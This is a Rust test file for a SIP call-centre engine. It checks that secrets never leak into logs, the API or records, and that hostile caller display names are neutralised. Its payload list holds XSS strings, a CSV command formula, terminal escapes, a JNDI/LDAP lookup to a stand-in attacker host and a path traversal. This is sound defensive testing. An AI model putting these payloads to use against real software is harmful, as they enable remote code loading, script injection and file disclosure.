//! What must be nowhere to be read, and what must nowhere come to life: passwords, tokens and keys in logs, API, metrics and
//! records; names that callers give themselves.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // here a panic is a verdict

#[path = "support/phone.rs"]
mod phones;
mod support;

use holdfast::phone::{Dial, Phone, PhoneSettings};
use phones::within;
use serde_json::Value;
use std::net::UdpSocket;
use std::process::Command;
use std::time::Duration;
use support::engine::{Holdfast, TOKEN};
use support::eventually;

const RULES: &str = r#"
skills = ["english"]
[[queue]]
name = "sales"
title = "Sales"
music = ["morning-harbour"]
requires = "english"
[[number]]
dialled = "4001"
queue = "sales"
[[agent]]
name = "anna"
title = "Anna"
password = "canary-of-anna"
skills = { english = 5 }
queues = ["sales"]
login = "automatic"
"#;

/// What the trunk is called with, and a key as it stands in SDP.
const TRUNK_PASSWORD: &str = "canary-of-the-trunk";
const GUESS: &str = "canary-guess";
const SRTP_KEY: &str = "Y2FuYXJ5Y2FuYXJ5Y2FuYXJ5Y2FuYXJ5Y2FuYXJ5";

/// Everything the API shows, and what it says to those it refuses.
fn everything_read(engine: &Holdfast) -> String {
    let paths = ["queues", "agents", "calls", "records?limit=100", "bans", "calls/1/why", "nothing"];
    let mut text = engine.get("/metrics") + &engine.get("/");
    for path in paths {
        for token in [TOKEN, GUESS] {
            let mut response = ureq::get(format!("http://{}/v1/{path}", engine.http))
                .config()
                .http_status_as_error(false)
                .build()
                .header("Authorization", &format!("Bearer {token}"))
                .call()
                .expect("an answer");
            text += &format!("{:?}\n", response.headers());
            text += &response.body_mut().read_to_string().expect("text");
        }
    }
    text
}

fn invite_with_key(engine: &Holdfast) {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let here = socket.local_addr().unwrap();
    let sdp = format!(
        "v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 9 RTP/SAVP 0\r\n\
         a=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:{SRTP_KEY}\r\n"
    );
    let invite = format!(
        "INVITE sip:4001@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP {here};rport;branch=z9hG4bKkey\r\nMax-Forwards: 70\r\n\
         From: <sip:030@127.0.0.1>;tag=1\r\nTo: <sip:4001@127.0.0.1>\r\nCall-ID: key\r\nCSeq: 1 INVITE\r\n\
         Contact: <sip:030@{here}>\r\nContent-Type: application/sdp\r\nContent-Length: {}\r\n\r\n{sdp}",
        sdp.len()
    );
    socket.send_to(invite.as_bytes(), engine.sip).unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    socket.recv(&mut [0; 4096]).expect("it is answered");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_password_token_or_key_is_anywhere_to_be_read_however_much_is_logged() {
    let outward = format!(
        "dial = \"127.0.0.1:9\"\nusername = \"acme\"\npassword = \"{TRUNK_PASSWORD}\"\nsrtp = \"optional\"\n"
    );
    let change = move |config: String| {
        let config = config.replace("filter = \"info\"", "filter = \"trace\"");
        config
            .replace("addresses = [\"127.0.0.0/8\"]\n", &format!("addresses = [\"127.0.0.0/8\"]\n{outward}"))
    };
    let engine = tokio::task::spawn_blocking(move || Holdfast::start_changed(RULES, change)).await.unwrap();
    let phone =
        async |password: &str| Phone::bind(PhoneSettings::new(engine.sip, "anna", password)).await.unwrap();
    assert!(within(phone(GUESS).await.register()).await.is_err(), "a wrong password is refused");
    let anna = phone("canary-of-anna").await;
    within(anna.register()).await.unwrap();
    let trunk = Phone::bind(PhoneSettings::new(engine.sip, "trunk", "")).await.unwrap();
    let call = trunk.call("4001").await.unwrap();
    let talking = within(anna.incoming()).await.unwrap().answer();
    within(talking.answered()).await.unwrap();
    call.hang_up();
    within(talking.ended()).await;
    let engine = tokio::task::spawn_blocking(move || {
        invite_with_key(&engine);
        // A mistake in a secret's place is told without the secret.
        let path = engine.folder.path().join("holdfast.toml");
        let text = std::fs::read_to_string(&path).unwrap();
        std::fs::write(
            &path,
            text.replace(&format!("token = \"{TOKEN}\""), &format!("token = [\"{TOKEN}\"]")),
        )
        .unwrap();
        let reload = ureq::post(format!("http://{}/v1/reload", engine.http))
            .config()
            .http_status_as_error(false)
            .build()
            .header("Authorization", &format!("Bearer {TOKEN}"));
        let problems = reload.send_empty().unwrap().body_mut().read_to_string().unwrap();
        assert!(problems.contains("token: expected a text in quotes"), "{problems}");
        let check =
            Command::new(env!("CARGO_BIN_EXE_holdfast")).arg("check-config").arg(&path).output().unwrap();
        let checked = String::from_utf8_lossy(&[check.stdout, check.stderr].concat()).into_owned();
        let shown = everything_read(&engine) + &problems + &checked;
        let log = engine.log();
        assert!(log.contains("DEBUG"), "much is logged");
        let records = std::fs::read(engine.store()).unwrap();
        let places = [
            ("the API", shown),
            ("the log", log),
            ("the records", String::from_utf8_lossy(&records).into_owned()),
        ];
        for secret in ["canary-of-anna", TRUNK_PASSWORD, GUESS, TOKEN, SRTP_KEY] {
            for (place, text) in &places {
                let line = text.lines().find(|line| line.contains(secret));
                assert_eq!(line, None, "{secret} is to be read in {place}");
            }
        }
        engine
    })
    .await
    .unwrap();
    drop(engine);
}

/// Names that would live in a page, a table, a terminal, a log or a label, if anybody let them.
const NAMES: [&str; 9] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "line\u{2028}break\u{85}next",
    "\u{202e}gnitset",
    "${jndi:ldap://evil.example/x}",
    "..%2f..%2fetc%2fpasswd",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_name_that_a_caller_gives_himself_comes_to_life_anywhere() {
    let engine = tokio::task::spawn_blocking(|| Holdfast::start(RULES)).await.unwrap();
    let trunk = Phone::bind(PhoneSettings { calls_max: 20, ..PhoneSettings::new(engine.sip, "trunk", "") })
        .await
        .unwrap();
    let mut calls = Vec::new();
    for name in NAMES {
        let dial = Dial { target: "4001".into(), display: Some(name.into()), ..Dial::default() };
        let call = trunk.dial(dial).await.unwrap();
        within(call.answered()).await.unwrap();
        calls.push(call);
    }
    let engine = tokio::task::spawn_blocking(move || {
        support::eventually("all calls are shown", std::time::Duration::from_secs(10), || {
            (engine.api("/v1/calls").as_array()?.len() == NAMES.len()).then_some(())
        });
        let mut live = ureq::get(format!("http://{}/v1/calls", engine.http))
            .header("Authorization", &format!("Bearer {TOKEN}"))
            .call()
            .unwrap();
        let header = |name: &str| live.headers().get(name).unwrap().to_str().unwrap().to_owned();
        assert_eq!(header("content-type"), "application/json", "no browser takes it for a page");
        assert_eq!(header("x-content-type-options"), "nosniff");
        assert!(header("content-security-policy").contains("default-src 'none'"));
        let shown: Value = live.body_mut().read_json().unwrap();
        assert!(shown.to_string().contains("alert(1)"), "the names are shown as they are, as data");
        engine
    })
    .await
    .unwrap();
    for call in &calls {
        call.hang_up();
    }
    for call in &calls {
        within(call.ended()).await;
    }
    tokio::task::spawn_blocking(move || {
        eventually("all are recorded", Duration::from_secs(20), || {
            (engine.api("/v1/records?limit=100").as_array().map(Vec::len) == Some(NAMES.len())).then_some(())
        });
        let run = |more: &[&str]| {
            let mut command = Command::new(env!("CARGO_BIN_EXE_holdfast"));
            let output = command.args(["calls", "--store"]).arg(engine.store()).args(more).output().unwrap();
            String::from_utf8(output.stdout).unwrap()
        };
        for (place, text) in [
            ("the table", run(&[])),
            ("the JSON", run(&["--json"])),
            ("the CSV", run(&["--csv"])),
            ("the log", engine.log()),
            ("the metrics", engine.get("/metrics")),
        ] {
            let live = text
                .chars()
                .find(|c| (c.is_control() && *c != '\n') || matches!(c, '\u{2028}' | '\u{202e}' | '\u{85}'));
            assert_eq!(live, None, "in {place}:\n{text:?}");
        }
        let metrics = engine.get("/metrics");
        assert!(!metrics.contains("alert") && !metrics.contains("jndi"), "no caller is a label");
        let page = engine.get("/");
        assert!(!page.contains("alert"), "{page}");
    })
    .await
    .unwrap();
}
